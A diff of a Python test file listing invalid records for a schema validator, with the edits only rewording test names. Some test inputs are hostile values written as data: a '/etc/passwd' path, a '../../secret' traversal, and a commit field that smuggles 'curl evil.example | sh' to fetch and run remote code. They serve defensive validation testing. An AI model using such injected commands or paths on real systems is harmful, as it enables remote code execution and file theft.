@@ -128,7 +128,7 @@ RECORDS = {
         lambda c: c["curves"].update(path="/etc/passwd"),
         "is a path; a record only names files in its own folder",
     ),
-    "a model of somebody's folder": (
+    "a model of someone's folder": (
         "validate",
         lambda c: c["policy"].update(model="../../secret"),
         "is a path outside the working directory",
@@ -143,7 +143,7 @@ RECORDS = {
         lambda c: c["results"]["test"]["metrics"].update(mine={"value": 1.0, "n": 4}),
         r"test: has the metrics .*'mine'\]",
     ),
-    "a scale that is no number": (
+    "a scale that is not a number": (
         "validate",
         lambda c: c["task"].update(score_range={"floor": "x", "ceiling": 1, "source": ""}),
         r"not a valid record \(task\.score_range\.floor: Input should be a valid number",
@@ -198,12 +198,12 @@ RECORDS = {
         lambda c: c["results"]["validation"].update(truncated_share=0.125),
         "results.validation: truncated_share is 0.125, but curves.jsonl ends with",
     ),
-    "commands in place of a commit": (
+    "commands instead of a commit": (
         "validate",
         lambda c: c["provenance"].update(commit="main; curl evil.example | sh #"),
         "provenance.commit: String should match pattern",
     ),
-    "text in place of a flag": (
+    "text instead of a flag": (
         "validate",
         lambda c: c["fidelity"].update(flags=["**checked**"]),
         "fidelity.flags.0: Input should be 'max_logprob_difference'",
